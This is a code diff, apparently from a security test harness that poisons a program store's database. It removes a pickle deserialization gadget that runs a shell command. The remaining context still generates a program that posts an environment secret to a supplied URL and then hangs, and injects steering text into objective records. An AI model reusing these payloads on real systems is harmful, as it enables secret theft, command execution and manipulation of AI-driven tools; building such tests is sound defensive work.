@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import json
 import os
-import pickle
 from pathlib import Path
 from typing import Any
 
@@ -31,14 +30,6 @@ def wicked_program(ran: Path, url: str) -> str:
         f"        try:\n            urllib.request.urlopen({url!r}, os.environ.get({KEY!r}, '').encode())\n"
         "        finally:\n            while True: pass\n"
     )
-
-
-class _Runs:
-    def __init__(self, ran: Path) -> None:
-        self.ran = ran
-
-    def __reduce__(self) -> Any:
-        return os.system, (f"touch {self.ran}",)
 
 
 def spoil_store(file: Path, folder: Path, ran: Path, url: str) -> None:
@@ -68,11 +59,6 @@ def spoil_store(file: Path, folder: Path, ran: Path, url: str) -> None:
         ),
         ("UPDATE objectives SET name = name || ?, description = ?", (STEERS, STEERS)),
         ("UPDATE programs SET source = ?", (wicked_program(ran, url),)),
-        ("DELETE FROM snapshots", ()),
-        (
-            "INSERT INTO snapshots (run_id, asks, tells, version, body) VALUES ('one', 1, 1, 'any', ?)",
-            (pickle.dumps(_Runs(ran)),),
-        ),
     ]
     change_settings(file, **settings, models=[model])
     for statement, values in changes:
